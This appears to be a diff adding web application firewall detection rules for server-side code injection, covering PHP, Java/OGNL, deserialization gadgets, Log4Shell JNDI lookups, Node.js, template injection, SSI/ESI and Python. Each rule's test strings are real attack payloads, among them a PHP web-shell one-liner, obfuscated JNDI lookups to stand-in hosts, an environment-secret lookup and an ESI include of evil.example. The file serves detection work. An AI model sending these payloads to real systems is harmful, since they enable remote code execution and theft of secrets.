@@ -1,0 +1,262 @@
+# Server-side code injection: PHP, Java, Node.js, template engines, JNDI, SSI (ids 300005000-300005999).
+
+id: 300005001
+name: PHP code injection: opening tag
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: PHP
+targets: @values, header, url, param-name
+literal: <?
+regex: <\?(?:php\b|=|\s)
+test: <?php system($_GET['c']); ?>
+pass: what <?
+
+id: 300005002
+name: PHP code injection: dangerous function call
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: PHP
+targets: @values, header, url, param-name
+literal: (
+regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_get_contents|file_put_contents|fopen|fwrite|readfile|highlight_file|show_source|phpinfo|phpversion|php_uname|getenv|base64_decode|gzinflate|gzuncompress|str_rot13|move_uploaded_file|unserialize|include|include_once|require|require_once|array_map|usort|ob_start|mb_ereg_replace|posix_\w+|symlink|chmod|putenv|ini_set|dl|mail)\s*\(\s*(?:['"`$(\[]|\w+\s*\(|\)|\d|\w+\s*,\s*['"$])
+test: system('id')
+test: eval(base64_decode($_POST['x']))
+test: phpinfo()
+pass: the system (as designed) works
+
+id: 300005003
+name: PHP code injection: superglobals and backtick execution
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: PHP
+targets: @values, header, url, param-name
+literal: $_
+literal: ${
+literal: `
+regex: \$_(?:get|post|request|cookie|server|files|env|session)\s*\[|\$\{\s*@?(?:system|eval|phpinfo|print|exec)\b|\$\{\s*\$\{|`\s*\$_
+test: $_GET['cmd']
+test: ${${system('id')}}
+pass: $_ is a variable
+
+id: 300005004
+name: PHP object injection: serialized object
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: PHP
+targets: @values, header, param-name
+literal: o:
+literal: c:
+literal: a:
+regex: \b[oc]:\+?\d+:"[\w\\]+":\d+:\{|\ba:\d+:\{(?:[is]:\d+(?::"[^"]*")?;){1,}\s*[oc]:\d+:"
+test: O:8:"stdClass":1:{s:1:"a";s:1:"b";}
+pass: O:8 in the evening
+
+id: 300005005
+name: Java code injection: runtime, reflection and process APIs
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: Java Servlets/JSP
+targets: @values, header, url, param-name
+literal: java.
+literal: javax.
+literal: runtime
+literal: processbuilder
+literal: getclass
+literal: forname
+literal: classloader
+literal: getmethod
+literal: newinstance
+literal: scriptengine
+literal: invoke(
+literal: .exec(
+literal: getdeclared
+regex: \bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect|thread|classloader)|io\.(?:file|bufferedreader|inputstreamreader)|net\.(?:url|socket)|util\.scanner|beans\.)|\bjavax\.(?:script|naming|management)\.|\bruntime\s*(?:\.\s*getruntime\s*\(|\))|\bnew\s+processbuilder\b|\bprocessbuilder\s*\(|\.getclass\s*\(\s*\)\s*\.|\bclass\s*\.\s*forname\s*\(|\bforname\s*\(\s*['"]|\bclassloader\b[\s\S]{0,40}(?:\.|\[)|\.getmethod\s*\(|\.newinstance\s*\(|\bscriptenginemanager\b|\.invoke\s*\([\s\S]{0,40}(?:null|exec|runtime)|\.exec\s*\(\s*['"\[]|\.getdeclared(?:method|field|constructor)s?\s*\(
+test: java.lang.Runtime.getRuntime().exec("id")
+test: new ProcessBuilder("sh")
+test: Class.forName("java.lang.Runtime")
+pass: learning java language
+
+id: 300005006
+name: Java expression language / OGNL injection
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: Java Servlets/JSP
+targets: @values, header, url, param-name
+literal: %{
+literal: #_memberaccess
+literal: @java
+literal: #context
+literal: #application
+literal: #request
+literal: #session
+literal: #parameters
+literal: ognl
+literal: t(
+literal: class.module
+literal: class.classloader
+literal: #{
+literal: ${
+literal: xwork
+literal: @ognl
+literal: dispatcher
+regex: %\{[\s\S]{0,200}?(?:#|@|\.class|getruntime|exec|\()|#_memberaccess|@java\.lang|@ognl\.|#(?:context|application|request|session|parameters|attr|_memberaccess)\s*[\[.]|\bognl(?:context|util)\b|\bt\s*\(\s*java\.|\bclass\.(?:module\.)?classloader\b|\bxwork\.|com\.opensymphony|#\{[\s\S]{0,100}?(?:\.class|getruntime|exec\(|\bt\s*\(|request\.|session\.|facescontext|applicationscope)|\$\{[\s\S]{0,100}?(?:\.class\b|getruntime|\.exec\(|\bt\s*\(|\.getclass|pageContext|applicationScope|sessionscope|requestscope|header\[|param\.|facescontext)
+test: %{#_memberAccess['allowStaticMethodAccess']=true}
+test: ${T(java.lang.Runtime).getRuntime().exec('id')}
+test: class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
+pass: 100%{ of it
+
+id: 300005007
+name: Java deserialization gadget markers
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: Java Servlets/JSP
+targets: @values, header, param-name
+literal: ro0ab
+literal: aced0005
+literal: \xac\xed
+literal: commons.collections
+literal: invokertransformer
+literal: templatesimpl
+literal: <java
+literal: dynamic-proxy
+literal: jdbcrowsetimpl
+literal: sorted-set
+literal: @type
+regex: ^ro0ab|\baced0005|\xac\xed\x00\x05|\borg\.apache\.commons\.collections|\binvokertransformer\b|\btemplatesimpl\b|<java\b[^>]*>\s*<object|<dynamic-proxy>|\bjdbcrowsetimpl\b|<sorted-set>\s*<|"@type"\s*:\s*"(?:com|org|java)\.
+test: rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==
+test: {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}
+pass: aced it
+
+id: 300005008
+name: Log4Shell: JNDI lookup
+type: Server Side Code Injection
+accuracy: high
+risk: high
+targets: @all
+literal: jndi
+literal: ${
+literal: %24%7b
+regex: \$\{[\s\S]{0,100}?jndi|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:[^{}]|\$\{[^{}]*\}){0,300}?:(?:ldaps?|rmi|dns|iiop|corba|nds|nis):|%24%7b[\s\S]{0,60}jndi
+test: ${jndi:ldap://x.example/a}
+test: ${${lower:j}${lower:n}di:ldap://x}
+pass: ${total} euros
+
+id: 300005009
+name: Log4Shell: lookup obfuscation
+type: Server Side Code Injection
+accuracy: high
+risk: high
+targets: @all
+literal: ${
+regex: \$\{\s*(?:::-|[^}:]{0,20}:-|(?:lower|upper|env|sys|date|base64|main|java|ctx|bundle|k8s|docker|log4j|spring|web|jvmrunargs|marker|sd|map|event|hostname|script)\s*:)[^}]{0,100}\}
+test: ${env:AWS_SECRET_ACCESS_KEY}
+test: ${::-j}
+test: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}
+pass: ${name}
+
+id: 300005010
+name: Node.js code injection
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: Node.js
+targets: @values, header, url, param-name
+literal: require
+literal: child_process
+literal: process.
+literal: __proto__
+literal: constructor
+literal: prototype
+literal: function(
+literal: global.
+literal: module.
+literal: eval
+literal: spawn
+literal: execsync
+literal: fs.
+literal: _$$nd_func$$_
+literal: vm.
+literal: buffer.from
+regex: \brequire\s*\(\s*['"`](?:child_process|fs|net|http|vm|os|dns|process|cluster|worker_threads|module)['"`]\s*\)|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|exit|kill|dlopen|cwd\s*\(|versions|argv)|__proto__|\bconstructor\s*\.\s*prototype\b|\bconstructor\s*\[|\[\s*['"`]constructor['"`]\s*\]|\bprototype\s*\.\s*\w+\s*=|\bnew\s+function\s*\(|\bfunction\s*\(\s*\)\s*\{[\s\S]{0,100}?(?:return|require|process|eval)|\bglobal\s*\.\s*(?:process|require)|\bmodule\s*\.\s*(?:require|constructor|exports\s*=)|\b(?:spawn|execsync|execfile|spawnsync|exec)\s*\(\s*['"`]|\bfs\s*\.\s*(?:readfile|writefile|readdir|unlink|rmdir|readfilesync|writefilesync|readdirsync)\w*\s*\(|_\$\$nd_func\$\$_|\bvm\s*\.\s*run\w*\s*\(|\bbuffer\s*\.\s*from\s*\([\s\S]{0,100}\)\s*\.tostring\s*\(
+test: require('child_process').exec('id')
+test: {"__proto__":{"isAdmin":true}}
+test: process.mainModule.require('fs')
+pass: the function of the process
+
+id: 300005011
+name: Server-side template injection: expression probes
+type: Server Side Code Injection
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+literal: {{
+literal: ${
+literal: #{
+literal: <%
+literal: {%
+literal: *{
+literal: @{
+literal: [[
+literal: {#
+literal: {=
+literal: ${{
+literal: #set
+literal: #foreach
+literal: <#
+literal: {php}
+literal: {system
+literal: {if
+regex: (?:\{\{|\$\{\{?|#\{|<%=?|\*\{|@\{|\[\[|\{=|\{#)\s*['"]?\d+['"]?\s*[*+\-/]\s*['"]?\d+['"]?\s*(?:\}\}?|%>|\]\])|\{\{[\s\S]{0,200}?(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|__init__|__getattribute__|\bconfig\b|\bself\b|\brequest\b|lipsum|cycler|joiner|namespace|\|\s*attr|\bpopen\b|\bos\.|\bgetruntime\b|_self\.env|registerundefinedfiltercallback|\|\s*(?:filter|map|sort|reduce)\s*\(|\bexec\b|\bsystem\b|range\s*\(|dump\s*\()|\{%[\s\S]{0,200}?(?:\bimport\b|\bfor\b|\bset\b|\binclude\b|\bdebug\b|\bif\b|\bmacro\b|\bload\b)[\s\S]{0,200}?%\}|<#(?:assign|include|import|list|if|local|global|setting|ftl)\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|#foreach\s*\(|\$class\.|\.inspect\(|\{php\}|\{system\s*\(|\{if\s+(?:system|phpinfo|exec)|\{\{\s*(?:self|this|_self)\b|<%[\s\S]{0,200}?(?:runtime|process|system|exec|require|eval|import|response\.|request\.|out\.print|=\s*\w+\s*\()[\s\S]{0,100}%>|\$\{\s*(?:[a-z_]+\.)*(?:getclass|class|forname|getruntime|exec)\b|@\{[\s\S]{0,100}?(?:\(|\.)
+test: {{7*7}}
+test: ${7*7}
+test: {{ ''.__class__.__mro__[1].__subclasses__() }}
+test: <#assign ex="freemarker.template.utility.Execute"?new()>
+test: {% import os %}{{ os.popen('id').read() }}
+test: #set($x = $class.inspect("java.lang.Runtime"))
+pass: {{ name }}
+pass: 2 * 3 = 6
+
+id: 300005012
+name: Server-side includes and edge-side includes
+type: Server-Side Includes
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+literal: <!--
+literal: <esi:
+literal: #exec
+literal: #include
+regex: <!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif|else|endif)\b|<esi:(?:include|inline|vars|choose|when|eval|debug|assign|function|try|attempt)\b
+test: <!--#exec cmd="ls" -->
+test: <esi:include src="http://evil.example/"/>
+pass: <!-- a comment -->
+
+id: 300005013
+name: Python code injection
+type: Server Side Code Injection
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+literal: __import__
+literal: import os
+literal: import subprocess
+literal: subprocess.
+literal: os.system
+literal: os.popen
+literal: pickle
+literal: exec(
+literal: compile(
+literal: getattr(
+literal: __builtins__
+literal: cos
+regex: \b__import__\s*\(|\bimport\s+(?:os|subprocess|socket|pty|sys|shutil|commands)\b|\bsubprocess\s*\.\s*(?:popen|call|run|check_output|check_call|getoutput)|\bos\s*\.\s*(?:system|popen\d?|exec\w*|spawn\w*|remove|listdir|getenv|environ)\b|\bpickle\s*\.\s*loads?\s*\(|\bexec\s*\(\s*(?:['"]|compile|base64|bytes|__import__)|\bcompile\s*\([^)]*['"]exec['"]|\bgetattr\s*\([\s\S]{0,100}?(?:__|os|system|popen)|\b__builtins__\b|^cos\s*\n\s*system\b|\(S'[\s\S]{0,100}'\s*\ntR
+test: __import__('os').system('id')
+test: import subprocess; subprocess.call(['ls'])
+pass: important system notice
